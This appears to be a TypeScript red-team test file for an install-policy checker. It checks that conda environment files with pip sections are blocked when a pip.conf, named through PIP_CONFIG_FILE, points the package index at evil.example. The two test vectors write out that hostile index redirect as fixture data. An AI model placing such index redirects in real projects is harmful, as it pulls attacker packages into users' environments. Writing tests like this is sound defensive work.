/**
 * Red team 46b R46b-6: a conda environment file's pip list runs `pip install`, which reads the
 * pip.conf the line's PIP_CONFIG_FILE names (its `global` and `install` sections, whatever
 * conda's own command is); the kernel refuses (tests/deps/test_redteam46b_conda_pip_conf.py),
 * and installers.ts addImplicitSources reads pipConfigSettings for request.condaPip too.
 */
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import {
  IInstallVector as Vector,
  installOutcome as outcome
} from '../testing/install-outcome';

// the same vectors as tests/deps/redteam46b_conda_pip_conf.json (kernel control)
const vectors: Vector[] = [
  {
    name: 'R46b-6 conda env create pip section, PIP_CONFIG_FILE on the line',
    policy: {},
    files: {
      'env.yml': 'name: x\ndependencies:\n  - pip\n  - pip:\n    - black\n',
      'pip.conf': '[global]\nindex-url = https://evil.example/simple\n'
    },
    command: 'PIP_CONFIG_FILE=pip.conf conda env create -f env.yml',
    expect: {
      rules: ['install-index-not-allowed'],
      runs: false
    }
  },
  {
    name: 'R46b-6  conda env create pip section, PIP_CONFIG_FILE in env',
    policy: {},
    env: {
      PIP_CONFIG_FILE: 'pip.conf'
    },
    files: {
      'env.yml': 'name: x\ndependencies:\n  - pip\n  - pip:\n    - black\n',
      'pip.conf': '[install]\nextra-index-url = https://evil.example/simple\n'
    },
    command: 'conda env create -f env.yml',
    expect: {
      rules: ['install-index-not-allowed'],
      runs: false
    }
  }
];

describe('R46b-6: a conda environment file pip list reads pip.conf on the static side too', () => {
  for (const vector of vectors) {
    it(vector.name, () => {
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'rt46b-'));
      expect(outcome(vector, dir)).toEqual(vector.expect);
    });
  }
});
